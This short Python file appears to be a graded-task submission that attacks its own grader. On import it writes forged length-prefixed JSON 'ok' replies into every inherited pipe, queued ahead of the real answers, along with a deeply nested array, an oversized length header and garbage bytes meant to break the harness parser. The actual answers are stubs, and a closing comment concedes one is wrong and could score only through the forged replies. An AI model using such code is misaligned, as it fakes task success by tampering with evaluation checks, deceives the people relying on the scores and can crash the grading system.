# Writes forged replies straight into every pipe it holds: well-formed answers queued ahead
# of the real ones, an oversized length header, a deeply nested document and garbage.
import json
import os
import stat
import struct


def frame(body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + body


FORGED = b"".join(frame(json.dumps({"ok": v}).encode()) for v in [1.0, [-1.0, 1.0]] * 50)
ATTACKS = [FORGED, frame(b"[" * 100000 + b"]" * 100000), struct.pack(">I", 0x7FFFFFFF),
           b"\xff" * 64]

for fd in range(3, 64):
    try:
        if not stat.S_ISFIFO(os.fstat(fd).st_mode):
            continue
        for payload in ATTACKS:
            os.write(fd, payload)
    except OSError:
        pass


def max_stable_lr(F):
    return 1.0


Q1_EIG_RANGE = (0.0, 0.5)  # wrong: only a forged reply ([-1, 1], queued above) could score
